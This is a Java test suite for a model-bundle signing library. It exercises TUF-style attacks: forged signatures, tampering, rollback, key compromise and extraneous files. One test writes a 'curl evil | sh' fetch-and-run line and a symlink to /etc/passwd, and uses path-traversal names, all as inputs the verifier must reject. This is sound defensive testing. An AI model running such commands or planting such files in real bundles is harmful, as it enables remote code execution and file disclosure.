package io.edgeslm.signing;

import static io.edgeslm.signing.TestBundles.node;
import static io.edgeslm.signing.TestBundles.release;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * One test per attack of the reference list (TUF's threat model as applied to our fleet, see
 * docs/model-signing.md), each testing what this library owns.
 */
class AttackTest {
  @TempDir Path tmp;

  private final SigningKey releaseKey = SigningKey.generate(KeyCurve.P256);
  private final TrustStore pinned = TrustStore.pinned(List.of(releaseKey.verificationKey()));

  private Path signedModel(String name, ReleaseMetadata r) throws SigningException {
    Path dir = TestBundles.model(tmp, name, r);
    BundleSigner.of(releaseKey).sign(dir, BundleOptions.defaults());
    return dir;
  }

  private VerifiedBundle verify(Path dir) throws SigningException {
    return BundleVerifier.of(pinned).verify(dir, BundleOptions.defaults());
  }

  @Test
  void a1_arbitraryInstallation_unsignedBundle_rejectedAsUntrusted() {
    Path dir = TestBundles.model(tmp, "unsigned", release(1));

    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(UntrustedKeyException.class)
        .hasMessageStartingWith("No signature file at ")
        .hasMessageEndingWith(
            ": the bundle is unsigned. Sign it with 'sign', or copy its model.sig along.");
  }

  @Test
  void a1_arbitraryInstallation_unknownKey_rejectedAsUntrusted() throws Exception {
    Path dir = TestBundles.model(tmp, "foreign", release(1));
    SigningKey attacker = SigningKey.generate(KeyCurve.P256);
    BundleSigner.of(attacker).sign(dir, BundleOptions.defaults());

    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(UntrustedKeyException.class)
        .hasMessageContaining("no signature verifies with a key trusted for role 'release'")
        .hasMessageContaining(
            "the bundle names key "
                + attacker.verificationKey().keyId().substring(0, 12)
                + "… (an unsigned hint)");
  }

  @Test
  void a1_arbitraryInstallation_attackerForgesTheHintOfTheTrustedKey_rejected() throws Exception {
    Path dir = TestBundles.model(tmp, "forged-hint", release(1));
    SigningKey attacker = SigningKey.generate(KeyCurve.P256);
    BundleSigner.of(attacker).sign(dir, BundleOptions.defaults());
    Path sig = dir.resolve("model.sig");
    Files.writeString(
        sig,
        Files.readString(sig)
            .replace(attacker.verificationKey().keyId(), releaseKey.verificationKey().keyId()));

    // The hint never selects trust: the attacker's signature does not verify with the real key.
    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessageContaining("the signature does not verify with release key");
  }

  @Test
  void a1_arbitraryInstallation_changedByteInWeights_rejectedWithDigestMismatch() throws Exception {
    Path dir = signedModel("changed", release(1));
    TestBundles.xorByte(dir.resolve("model.gguf"), 4242, 0x80);

    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessageStartingWith("Digest mismatch for 'model.gguf': signed sha256:")
        .hasMessageEndingWith(
            ". The file changed after signing; re-copy the bundle or re-sign it.");
  }

  @Test
  void a1_arbitraryInstallation_changedStatement_rejectedBeforeParsing() throws Exception {
    Path dir = signedModel("stmt", release(1));
    Path sig = dir.resolve("model.sig");
    String json = Files.readString(sig);
    String payload = json.replaceAll("(?s).*\"payload\" : \"([^\"]+)\".*", "$1");
    String statement =
        new String(java.util.Base64.getDecoder().decode(payload), StandardCharsets.UTF_8);
    String forged = statement.replace("\"allow_symlinks\" : false", "\"allow_symlinks\" : true");
    assertThat(forged).isNotEqualTo(statement);
    Files.writeString(
        sig,
        json.replace(
            payload,
            java.util.Base64.getEncoder().encodeToString(forged.getBytes(StandardCharsets.UTF_8))));

    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessageContaining("The statement or signature changed after signing");
  }

  @Test
  void a2_wrongSoftware_validBundleForAnotherNode_refusedWithReason() throws Exception {
    VerifiedBundle b = verify(signedModel("target", release(5)));
    NodeFacts ok = node(Map.of());
    ReleasePolicy policy = ReleasePolicy.standard();
    assertThat(policy.check(b, ok).version()).isEqualTo(5);

    Map<PolicyException.Reason, NodeFacts> wrong = new LinkedHashMap<>();
    wrong.put(PolicyException.Reason.WRONG_ARCHITECTURE, with(ok, "aarch64", null, null, null));
    wrong.put(PolicyException.Reason.WRONG_DEVICE_CLASS, with(ok, null, "gateway-s", null, null));
    wrong.put(
        PolicyException.Reason.WRONG_MODEL,
        with(ok, null, null, Map.of("line-assistant", "stable"), null));
    wrong.put(
        PolicyException.Reason.WRONG_CHANNEL,
        with(ok, null, null, Map.of("plant-reporter", "canary"), null));
    wrong.put(
        PolicyException.Reason.LABEL_MISMATCH, with(ok, null, null, null, Map.of("site", "p9")));
    for (var e : wrong.entrySet()) {
      assertThatThrownBy(() -> policy.check(b, e.getValue()))
          .isInstanceOfSatisfying(
              PolicyException.class, p -> assertThat(p.reason()).isEqualTo(e.getKey()));
    }
    assertThatThrownBy(() -> policy.check(b, with(ok, "aarch64", null, null, null)))
        .hasMessage(
            "Release plant-reporter v5 (stable) targets architectures [x86_64], this node is"
                + " aarch64. Publish a build for aarch64.");
    NodeFacts small =
        new NodeFacts(
            "x86_64",
            "gateway-m",
            2048,
            ok.labels(),
            "1.4.0",
            ok.assignedChannels(),
            Map.of(),
            ok.now());
    assertThatThrownBy(() -> policy.check(b, small))
        .hasMessage(
            "Release plant-reporter v5 (stable) needs at least 4096 MiB of RAM, this node has 2048"
                + " MiB. Target larger nodes or publish a smaller model.");
    NodeFacts oldAgent =
        new NodeFacts(
            "x86_64",
            "gateway-m",
            8192,
            ok.labels(),
            "1.1.9",
            ok.assignedChannels(),
            Map.of(),
            ok.now());
    assertThatThrownBy(() -> policy.check(b, oldAgent))
        .isInstanceOfSatisfying(
            PolicyException.class,
            p -> assertThat(p.reason()).isEqualTo(PolicyException.Reason.AGENT_TOO_OLD));
  }

  @Test
  void a3_rollback_versionAtOrBelowHighWaterMark_refused() throws Exception {
    // An old but genuine bundle, e.g. from a forgotten USB stick or a retained MQTT message.
    VerifiedBundle old = verify(signedModel("old-stick", release(6)));
    ReleaseTrack track = new ReleaseTrack("plant-reporter", "stable");
    HighWaterMark installed = new HighWaterMark(7, Set.of(releaseKey.verificationKey().keyId()));

    assertThatThrownBy(() -> ReleasePolicy.standard().check(old, node(Map.of(track, installed))))
        .isInstanceOfSatisfying(
            PolicyException.class,
            p -> assertThat(p.reason()).isEqualTo(PolicyException.Reason.ROLLBACK))
        .hasMessage(
            "Release plant-reporter v6 (stable) is not newer than the installed high-water mark"
                + " v7 for plant-reporter@stable (rule: versions only increase). Refusing a"
                + " rollback; publish version 8 or higher.");
    VerifiedBundle same = verify(signedModel("same", release(7)));
    assertThatThrownBy(
            () -> ReleasePolicy.standard().check(same, node(Map.of(track, HighWaterMark.of(7)))))
        .isInstanceOf(PolicyException.class);
    VerifiedBundle newer = verify(signedModel("newer", release(8)));
    ReleaseMetadata accepted =
        ReleasePolicy.standard().check(newer, node(Map.of(track, installed)));
    assertThat(ReleasePolicy.standard().markAfterActivation(newer, accepted))
        .isEqualTo(new HighWaterMark(8, Set.of(releaseKey.verificationKey().keyId())));
  }

  @Test
  void a4_fastForward_absurdVersionFromRevokedKey_rejectedAndNodeRecoversAfterRotation()
      throws Exception {
    SigningKey rootKey = SigningKey.generate(KeyCurve.P256);
    SigningKey compromised = SigningKey.generate(KeyCurve.P256);
    SigningKey replacement = SigningKey.generate(KeyCurve.P256);
    TrustStore v1 =
        TrustStore.fromSignedRoot(
            TrustStore.signRoot(
                TrustRoot.of(
                    1,
                    List.of(rootKey.verificationKey()),
                    1,
                    List.of(compromised.verificationKey()),
                    1),
                List.of(rootKey)),
            "root.1.json");
    TrustStore v2 =
        v1.rotate(
            TrustStore.signRoot(
                TrustRoot.of(
                    2,
                    List.of(rootKey.verificationKey()),
                    1,
                    List.of(replacement.verificationKey()),
                    1),
                List.of(rootKey)),
            "root.2.json");

    Path absurd = TestBundles.model(tmp, "absurd", release(ReleaseMetadata.MAX_VERSION));
    BundleSigner.of(compromised).sign(absurd, BundleOptions.defaults());
    // After rotation the revoked key's absurd version is not even verifiable.
    assertThatThrownBy(() -> BundleVerifier.of(v2).verify(absurd, BundleOptions.defaults()))
        .isInstanceOf(UntrustedKeyException.class);

    // A node that installed it before the rotation holds an absurd high-water mark; the mark was
    // set by a key the current root revoked, so it no longer blocks the replacement key's v2.
    ReleaseTrack track = new ReleaseTrack("plant-reporter", "stable");
    HighWaterMark poisoned =
        new HighWaterMark(
            ReleaseMetadata.MAX_VERSION, Set.of(compromised.verificationKey().keyId()));
    Path fresh = TestBundles.model(tmp, "fresh", release(2));
    BundleSigner.of(replacement).sign(fresh, BundleOptions.defaults());
    VerifiedBundle b = BundleVerifier.of(v2).verify(fresh, BundleOptions.defaults());
    assertThat(ReleasePolicy.standard().check(b, node(Map.of(track, poisoned))).version())
        .isEqualTo(2);
    // A mark set by a still-trusted key keeps binding.
    HighWaterMark genuine = new HighWaterMark(3, Set.of(replacement.verificationKey().keyId()));
    assertThatThrownBy(() -> ReleasePolicy.standard().check(b, node(Map.of(track, genuine))))
        .isInstanceOf(PolicyException.class);
  }

  @Test
  void a4_fastForward_afterRotation_precheckIgnoresTheRevokedMark_andTheNextCommitReplacesIt()
      throws Exception {
    SigningKey rootKey = SigningKey.generate(KeyCurve.P256);
    SigningKey compromised = SigningKey.generate(KeyCurve.P256);
    SigningKey replacement = SigningKey.generate(KeyCurve.P256);
    TrustStore rotated =
        TrustStore.fromSignedRoot(
                TrustStore.signRoot(
                    TrustRoot.of(
                        1,
                        List.of(rootKey.verificationKey()),
                        1,
                        List.of(compromised.verificationKey()),
                        1),
                    List.of(rootKey)),
                "root.1.json")
            .rotate(
                TrustStore.signRoot(
                    TrustRoot.of(
                        2,
                        List.of(rootKey.verificationKey()),
                        1,
                        List.of(replacement.verificationKey()),
                        1),
                    List.of(rootKey)),
                "root.2.json");
    ReleaseTrack track = new ReleaseTrack("plant-reporter", "stable");
    HighWaterMark poisoned =
        new HighWaterMark(
            ReleaseMetadata.MAX_VERSION, Set.of(compromised.verificationKey().keyId()));
    ReleasePolicy policy = ReleasePolicy.standard();

    // Before the download: the announced v2 is not refused by the revoked mark.
    policy.precheck(track, 2, node(Map.of(track, poisoned)), rotated);

    // The commit of v2 replaces the revoked mark, although 2 is below it ...
    HighWaterMark v2 = new HighWaterMark(2, Set.of(replacement.verificationKey().keyId()));
    HighWaterMark next = policy.nextMark(poisoned, v2, rotated);
    assertThat(next).isEqualTo(v2);

    // ... so the replacement key's older v1 is a rollback again, before and after a download.
    assertThatThrownBy(() -> policy.precheck(track, 1, node(Map.of(track, next)), rotated))
        .isInstanceOf(PolicyException.class)
        .hasMessage(
            "Release plant-reporter v1 (stable) is not newer than the installed high-water mark"
                + " v2 for "
                + track
                + " (rule: versions only increase). Refusing a rollback; publish version 3 or"
                + " higher.");
    // A binding mark is never lowered.
    assertThat(policy.nextMark(next, new HighWaterMark(1, v2.signerKeyIds()), rotated))
        .isEqualTo(next);
  }

  @Test
  void a4_fastForward_absurdVersionBelowReleaseThreshold_rejected() throws Exception {
    SigningKey rootKey = SigningKey.generate(KeyCurve.P256);
    SigningKey r1 = SigningKey.generate(KeyCurve.P256);
    SigningKey r2 = SigningKey.generate(KeyCurve.P384);
    TrustStore two =
        TrustStore.fromSignedRoot(
            TrustStore.signRoot(
                TrustRoot.of(
                    1,
                    List.of(rootKey.verificationKey()),
                    1,
                    List.of(r1.verificationKey(), r2.verificationKey()),
                    2),
                List.of(rootKey)),
            "root.1.json");
    Path dir = TestBundles.model(tmp, "one-signer", release(ReleaseMetadata.MAX_VERSION));
    BundleSigner.of(List.of(r1, r1)).sign(dir, BundleOptions.defaults());

    assertThatThrownBy(() -> BundleVerifier.of(two).verify(dir, BundleOptions.defaults()))
        .isInstanceOf(UntrustedKeyException.class)
        .hasMessageContaining(
            "signed by 1 distinct trusted release key(s) ["
                + r1.verificationKey().keyId().substring(0, 12)
                + "…], below the release threshold of 2 in trust root version 1 (rule: each key"
                + " counts once)");

    BundleSigner.of(List.of(r1, r2)).sign(dir, BundleOptions.defaults());
    assertThat(BundleVerifier.of(two).verify(dir, BundleOptions.defaults()).signerKeyIds())
        .hasSize(2);
  }

  @Test
  void a5_indefiniteFreeze_expiredRelease_refusedAndStalenessReported() throws Exception {
    VerifiedBundle b = verify(signedModel("frozen", release(9)));
    NodeFacts later =
        new NodeFacts(
            "x86_64",
            "gateway-m",
            8192,
            Map.of("site", "plant-7"),
            "1.4.0",
            Map.of("plant-reporter", "stable"),
            Map.of(),
            Instant.parse("2030-01-13T12:00:00Z"));

    assertThatThrownBy(() -> ReleasePolicy.standard().check(b, later))
        .isInstanceOfSatisfying(
            PolicyException.class,
            p -> assertThat(p.reason()).isEqualTo(PolicyException.Reason.EXPIRED))
        .hasMessage(
            "Release plant-reporter v9 (stable) expired at 2030-01-01T00:00:00Z (12 days ago; now"
                + " 2030-01-13T12:00:00Z). An expired release may be a replayed or frozen one;"
                + " ask the release manager for a fresh release.");
  }

  @Test
  void a6_mixAndMatch_filesOfOneBundleWithSignatureOfAnother_rejected() throws Exception {
    Path a = signedModel("bundle-a", release(3));
    Path b = signedModel("bundle-b", release(4));
    Files.copy(
        b.resolve("model.sig"),
        a.resolve("model.sig"),
        java.nio.file.StandardCopyOption.REPLACE_EXISTING);
    assertThatThrownBy(() -> verify(a))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessageStartingWith("Digest mismatch for 'model.gguf'");

    Path c = signedModel("bundle-c", release(5));
    Files.copy(
        b.resolve("release.json"),
        c.resolve("release.json"),
        java.nio.file.StandardCopyOption.REPLACE_EXISTING);
    assertThatThrownBy(() -> verify(c))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessageStartingWith("Digest mismatch for 'release.json'");
  }

  @Test
  void a7_endlessData_sizeAndCountBoundsRefuseBeforeReading() throws Exception {
    Path dir = signedModel("endless", release(1));
    BundleLimits d = BundleLimits.defaults();

    Path sig = dir.resolve("model.sig");
    long sigSize = Files.size(sig);
    BundleLimits tinySig =
        new BundleLimits(
            100,
            d.maxFiles(),
            d.maxNameLength(),
            d.maxTotalBytes(),
            d.maxReleaseBytes(),
            d.maxSignatures());
    assertThatThrownBy(
            () ->
                BundleVerifier.of(pinned).verify(dir, BundleOptions.defaults().withLimits(tinySig)))
        .isInstanceOf(MalformedInputException.class)
        .hasMessage(
            sig.toRealPath()
                + " (signature file) has "
                + sigSize
                + " bytes, over the bound of 100. Refuse it: it is not a genuine signature file.");

    BundleLimits twoFiles =
        new BundleLimits(
            d.maxSignatureFileBytes(),
            2,
            d.maxNameLength(),
            d.maxTotalBytes(),
            d.maxReleaseBytes(),
            d.maxSignatures());
    assertThatThrownBy(
            () ->
                BundleVerifier.of(pinned)
                    .verify(dir, BundleOptions.defaults().withLimits(twoFiles)))
        .isInstanceOf(MalformedInputException.class)
        .hasMessageContaining("more than 2 files (rule: bounded file count)");

    BundleLimits smallTotal =
        new BundleLimits(
            d.maxSignatureFileBytes(),
            d.maxFiles(),
            d.maxNameLength(),
            10_000,
            d.maxReleaseBytes(),
            d.maxSignatures());
    assertThatThrownBy(
            () ->
                BundleVerifier.of(pinned)
                    .verify(dir, BundleOptions.defaults().withLimits(smallTotal)))
        .isInstanceOf(MalformedInputException.class)
        .hasMessageContaining("over the bound of 10000 (rule: bounded total size)");

    BundleLimits smallRelease =
        new BundleLimits(
            d.maxSignatureFileBytes(),
            d.maxFiles(),
            d.maxNameLength(),
            d.maxTotalBytes(),
            64,
            d.maxSignatures());
    assertThatThrownBy(
            () ->
                BundleVerifier.of(pinned)
                    .verify(dir, BundleOptions.defaults().withLimits(smallRelease)))
        .isInstanceOf(MalformedInputException.class)
        .hasMessageContaining("(release metadata) has ")
        .hasMessageContaining("over the bound of 64");
  }

  @Test
  void a8_slowRetrieval_partialTransferFailsCleanlyAndStaysRetryable() throws Exception {
    Path dir = signedModel("partial", release(1));
    Path weights = dir.resolve("model.gguf");
    byte[] full = Files.readAllBytes(weights);
    // A stalled transfer leaves a truncated file; the agent owns the time-out (see the docs).
    Files.write(weights, java.util.Arrays.copyOf(full, full.length / 3));
    assertThatThrownBy(() -> verify(dir)).isInstanceOf(TamperedArtifactException.class);
    // Verification changed nothing: finishing the transfer makes the same bundle verify.
    Files.write(weights, full);
    assertThat(verify(dir).files()).hasSize(3);
  }

  @Test
  void a9_extraneousFiles_escapesLinksDuplicatesAndUnlistedFiles_refused() throws Exception {
    Path dir = signedModel("extraneous", release(1));
    Files.writeString(dir.resolve("payload.sh"), "curl evil | sh\n");
    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessageContaining("not covered by the signature: payload.sh");
    Files.delete(dir.resolve("payload.sh"));

    Files.createSymbolicLink(dir.resolve("shadow"), Path.of("/etc/passwd"));
    assertThatThrownBy(() -> verify(dir))
        .isInstanceOf(TamperedArtifactException.class)
        .hasMessage(
            "'shadow' in "
                + dir.toRealPath()
                + " is a symbolic link. Next step: bundles never contain links; re-copy the"
                + " bundle without following links.");
    Files.delete(dir.resolve("shadow"));

    for (String evil : List.of("../outside.bin", "/etc/passwd", "a/../../b", "dup")) {
      Map<String, byte[]> files = new LinkedHashMap<>();
      files.put("model.gguf", Files.readAllBytes(dir.resolve("model.gguf")));
      files.put(evil, new byte[] {1});
      String json = TestBundles.statementJson("extraneous", files, "sha256");
      if (evil.equals("dup")) {
        json = json.replace("\"name\":\"dup\"", "\"name\":\"model.gguf\"");
      }
      TestBundles.signStatement(
          releaseKey, json.getBytes(StandardCharsets.UTF_8), dir.resolve("model.sig"));
      assertThatThrownBy(() -> verify(dir))
          .as(evil)
          .isInstanceOf(MalformedInputException.class)
          .hasMessageContaining(
              evil.equals("dup")
                  ? "is listed twice (rule: unique names)"
                  : "breaks a rule: a name must");
    }
  }

  @Test
  void a10_withheldUpdates_stalenessIsReportedForOperators() {
    ReleaseMetadata active = release(4);
    Freshness fresh = Freshness.of(active, Instant.parse("2029-12-01T00:00:00Z"));
    Freshness stale = Freshness.of(active, Instant.parse("2030-01-31T06:00:00Z"));

    assertThat(fresh.isExpired()).isFalse();
    assertThat(fresh.daysLeft()).isEqualTo(31);
    assertThat(stale.isExpired()).isTrue();
    assertThat(stale.daysOverdue()).isEqualTo(30);
    assertThat(stale.describe())
        .isEqualTo(
            "No valid update for 30 days: release plant-reporter@stable v4 expired at"
                + " 2030-01-01T00:00:00Z. Publish a fresh release for this track or check why"
                + " updates do not arrive.");
  }

  @Test
  void a11_keyCompromiseBelowThreshold_rootRotationNeedsOldAndNewThresholdEachKeyOnce()
      throws Exception {
    SigningKey o1 = SigningKey.generate(KeyCurve.P256);
    SigningKey o2 = SigningKey.generate(KeyCurve.P256);
    SigningKey o3 = SigningKey.generate(KeyCurve.P384);
    SigningKey n1 = SigningKey.generate(KeyCurve.P256);
    SigningKey n2 = SigningKey.generate(KeyCurve.P256);
    VerificationKey rel = releaseKey.verificationKey();
    TrustRoot root1 =
        TrustRoot.of(
            1,
            List.of(o1.verificationKey(), o2.verificationKey(), o3.verificationKey()),
            2,
            List.of(rel),
            1);
    // One stolen root key cannot even make a first root that needs two.
    assertThatThrownBy(
            () -> TrustStore.fromSignedRoot(TrustStore.signRoot(root1, List.of(o1)), "root.1.json"))
        .isInstanceOf(UntrustedKeyException.class)
        .hasMessageContaining("below its threshold of 2");
    TrustStore v1 =
        TrustStore.fromSignedRoot(TrustStore.signRoot(root1, List.of(o1, o2)), "root.1.json");

    // The attacker holds o1 and wants a root where only their new key n1 counts.
    TrustRoot evil = TrustRoot.of(2, List.of(n1.verificationKey()), 1, List.of(rel), 1);
    assertThatThrownBy(() -> v1.rotate(TrustStore.signRoot(evil, List.of(o1, n1)), "root.2.json"))
        .isInstanceOf(UntrustedKeyException.class)
        .hasMessage(
            "root.2.json is signed by 1 distinct key(s) of the current (version 1) root role ["
                + o1.verificationKey().keyId().substring(0, 12)
                + "…], below its threshold of 2 (rule: threshold of distinct root keys, each"
                + " counted once). Collect signatures from more root key holders.");
    // Signing twice with the same key still counts once.
    byte[] doubled = TrustStore.signRoot(evil, List.of(o1, n1));
    String json = new String(doubled, StandardCharsets.UTF_8);
    String o1sig = json.replaceAll("(?s).*?\"sig\" : \"([^\"]+)\".*", "$1");
    String twice =
        json.replaceFirst(
            "\"signatures\" : \\[",
            "\"signatures\" : [ { \"keyid\" : \"x\", \"sig\" : \"" + o1sig + "\" },");
    assertThatThrownBy(() -> v1.rotate(twice.getBytes(StandardCharsets.UTF_8), "root.2.json"))
        .isInstanceOf(UntrustedKeyException.class);

    // A legitimate rotation to n1+n2 (threshold 2) needs two old and two new signatures.
    TrustRoot next =
        TrustRoot.of(2, List.of(n1.verificationKey(), n2.verificationKey()), 2, List.of(rel), 1);
    assertThatThrownBy(() -> v1.rotate(TrustStore.signRoot(next, List.of(o1, o2, n1)), "r2"))
        .isInstanceOf(UntrustedKeyException.class)
        .hasMessageContaining("of its own root role");
    TrustStore v2 = v1.rotate(TrustStore.signRoot(next, List.of(o2, o3, n1, n2)), "r2");
    assertThat(v2.version()).isEqualTo(2);
    assertThat(v2.keys(KeyRole.ROOT)).containsExactly(n1.verificationKey(), n2.verificationKey());
    // Old root keys are revoked by omission: they alone cannot rotate any more.
    TrustRoot back = TrustRoot.of(3, List.of(o1.verificationKey()), 1, List.of(rel), 1);
    assertThatThrownBy(() -> v2.rotate(TrustStore.signRoot(back, List.of(o1, o2, o3)), "r3"))
        .isInstanceOf(UntrustedKeyException.class);
    // Versions move one at a time.
    TrustRoot skip =
        TrustRoot.of(4, List.of(n1.verificationKey(), n2.verificationKey()), 2, List.of(rel), 1);
    assertThatThrownBy(() -> v2.rotate(TrustStore.signRoot(skip, List.of(n1, n2)), "r4"))
        .isInstanceOf(MalformedInputException.class)
        .hasMessageContaining("rotation goes one version at a time (expected 3)");
  }

  private static NodeFacts with(
      NodeFacts n,
      String arch,
      String deviceClass,
      Map<String, String> assigned,
      Map<String, String> labels) {
    return new NodeFacts(
        arch == null ? n.architecture() : arch,
        deviceClass == null ? n.deviceClass() : deviceClass,
        n.ramMb(),
        labels == null ? n.labels() : labels,
        n.agentVersion(),
        assigned == null ? n.assignedChannels() : assigned,
        n.highWaterMarks(),
        n.now());
  }
}
